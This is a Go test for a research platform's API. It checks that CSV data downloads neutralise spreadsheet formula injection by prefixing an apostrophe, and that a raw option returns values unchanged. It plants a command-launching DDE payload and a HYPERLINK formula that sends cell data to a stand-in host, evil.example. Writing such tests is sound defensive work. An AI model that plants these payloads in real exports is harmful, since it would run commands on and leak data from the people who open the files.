package api

import (
	"encoding/csv"
	"net/http"
	"strings"
	"testing"

	"feedlab/demo"
)

// TestDumpDataNeutralisesFormulas is issue 13 item 7 through the router: an anonymous
// participant plants a formula in an arrival parameter and an answer; the researcher's
// download shows them as text (leading apostrophe) unless raw is asked for, and numbers stay
// numbers.
func TestDumpDataNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	c := e.researcher()
	r := e.post("/v1/load_experiment", map[string]any{"user_id": "evil", "experiment_id": demo.ExperimentID,
		"query_params": map[string]string{"note": "@SUM(1+1)*cmd|' /C calc'!A0"}})
	if r.status != 200 {
		t.Fatalf("load: %d %s", r.status, r.body)
	}
	r = e.post("/v1/write_form", map[string]any{"user_id": "evil", "experiment_id": demo.ExperimentID, "event_id": "f1",
		"form_fields": map[string]string{"q1": `=HYPERLINK("http://evil.example/?"&A1,"click")`, "age": "-3"}})
	if r.status != 200 {
		t.Fatalf("write_form: %d %s", r.status, r.body)
	}
	cells := func(raw bool) map[string]string {
		r := e.call(c, http.MethodPost, "/v1/dump_data", map[string]any{"data_type": "user_form", "experiment_id": demo.ExperimentID, "raw": raw}, "application/json")
		if r.status != 200 {
			t.Fatalf("dump_data: %d %s", r.status, r.body)
		}
		recs, err := csv.NewReader(strings.NewReader(string(r.body))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		got := map[string]string{}
		for _, rec := range recs[1:] {
			got[rec[3]] = rec[4] // field → response
		}
		return got
	}
	safe, raw := cells(false), cells(true)
	for field, value := range map[string]string{"q1": `=HYPERLINK("http://evil.example/?"&A1,"click")`, "URLParams-note": "@SUM(1+1)*cmd|' /C calc'!A0"} {
		if safe[field] != "'"+value {
			t.Errorf("%s in the default download: %q, want it neutralised", field, safe[field])
		}
		if raw[field] != value {
			t.Errorf("%s with raw: %q, want %q", field, raw[field], value)
		}
	}
	if safe["age"] != "-3" {
		t.Errorf("a negative number became %q", safe["age"])
	}
}
